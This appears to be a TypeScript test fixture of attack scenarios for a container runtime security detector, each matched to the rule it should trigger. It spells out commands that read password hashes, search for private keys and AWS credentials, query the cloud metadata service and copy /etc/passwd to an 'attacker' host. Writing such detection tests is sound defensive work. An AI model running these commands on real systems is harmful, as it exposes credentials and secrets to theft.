/** Looking around, and looking for secrets. */
import { type Attack, fake, outside, python } from './attack.ts';

export const secrets: Attack[] = [
  {
    name: 'the password hashes',
    script: 'cat /etc/shadow',
    official: 'Read sensitive file untrusted',
    chain: ['cat', 'sh', 'sh'],
  },
  {
    name: 'how logins are checked',
    script: 'head -n 1 /etc/pam.d/other',
    official: 'Read sensitive file untrusted',
    chain: ['head', 'sh', 'sh'],
  },
  {
    name: 'the password hashes by openat2',
    script: python(`
how = (ctypes.c_uint64 * 3)()
libc.syscall(437, -100, b"/etc/shadow", how, 24)`),
    official: 'Read sensitive file untrusted',
    chain: ['python3', 'sh', 'sh'],
  },
  {
    name: 'the password hashes from another directory',
    script: `cd /etc; ${python('os.open("shadow", os.O_RDONLY)')}`,
    official: 'Read sensitive file untrusted',
    chain: ['python3', 'sh', 'sh'],
  },
  {
    name: 'the password hashes by a descriptor of their directory',
    script: python('os.open("shadow", os.O_RDONLY, dir_fd=os.open("/etc", os.O_RDONLY))'),
    official: 'Read sensitive file untrusted',
    chain: ['python3', 'sh', 'sh'],
  },
  {
    name: 'a path that climbs',
    script: `perl -e 'system("cat", "/usr/lib/../../etc/passwd")'`,
    official: 'Directory traversal monitored file read',
    chain: ['cat', 'perl', 'sh'],
  },
  {
    name: 'a link to the password hashes',
    script: 'ln -s /etc/shadow /tmp/harmless',
    official: 'Create Symlink Over Sensitive Files',
    chain: ['ln', 'sh', 'sh'],
  },
  {
    name: 'another name of the password hashes',
    script: 'ln /etc/shadow /etc/harmless',
    official: 'Create Hardlink Over Sensitive Files',
    chain: ['ln', 'sh', 'sh'],
  },
  {
    name: 'a link to everything',
    script: 'ln -s / /tmp/all',
    official: 'Create Symlink Over Sensitive Files',
    chain: ['ln', 'sh', 'sh'],
  },
  {
    name: 'private keys by their first line',
    script: `grep -r 'BEGIN RSA PRIVATE' /root /home`,
    official: 'Search Private Keys or Passwords',
    chain: ['grep', 'sh', 'sh'],
  },
  {
    name: 'private keys by their names',
    script: 'find / -xdev -name id_ed25519',
    official: 'Search Private Keys or Passwords',
    chain: ['find', 'sh', 'sh'],
  },
  {
    name: 'keys of a cloud, by name of the variable',
    script: 'grep -ri aws_secret_access_key /root',
    official: 'Find AWS Credentials',
    chain: ['grep', 'sh', 'sh'],
  },
  {
    name: 'keys of a cloud, by name of the file',
    script: `find / -xdev -path '*.aws/credentials'`,
    official: 'Find AWS Credentials',
    chain: ['find', 'sh', 'sh'],
  },
  {
    name: 'a private key',
    script: 'mkdir -p /root/.ssh; echo key > /root/.ssh/id_rsa; cat /root/.ssh/id_rsa',
    official: 'Read ssh information',
    chain: ['cat', 'sh', 'sh'],
  },
  {
    name: 'the environment of the first process',
    script: 'cat /proc/1/environ',
    official: 'Read environment variable from /proc files',
    chain: ['cat', 'sh', 'sh'],
  },
  {
    name: 'the cloud’s metadata service',
    script: `${outside('169.254.169.254', 80)}
curl -s -m 1 http://169.254.169.254/latest/meta-data/`,
    box: 'privileged',
    official: 'Contact cloud metadata service from container',
    chain: ['curl', 'sh', 'sh'],
  },
  {
    name: 'the token of the service account',
    script: `mkdir -p /var/run/secrets/kubernetes.io/serviceaccount
echo token > /var/run/secrets/kubernetes.io/serviceaccount/token
cat /var/run/secrets/kubernetes.io/serviceaccount/token`,
    chain: ['cat', 'sh', 'sh'],
  },
  {
    name: 'a scan of ports',
    script: `${fake('nmap')} -sS 127.0.0.1`,
    official: 'Launch Suspicious Network Tool in Container',
    chain: ['nmap', 'sh', 'sh'],
  },
  {
    name: 'a capture of the network',
    script: `${fake('tcpdump')} -i any`,
    official: 'Launch Suspicious Network Tool in Container',
    chain: ['tcpdump', 'sh', 'sh'],
  },
  {
    name: 'packets as they are on the wire',
    script: python('socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)'),
    box: 'privileged',
    official: 'Packet socket created in container',
    chain: ['python3', 'sh', 'sh'],
  },
  {
    name: 'files are carried off',
    script: `${fake('scp')} /etc/passwd attacker:`,
    official: 'Launch Remote File Copy Tools in Container',
    chain: ['scp', 'sh', 'sh'],
  },
];
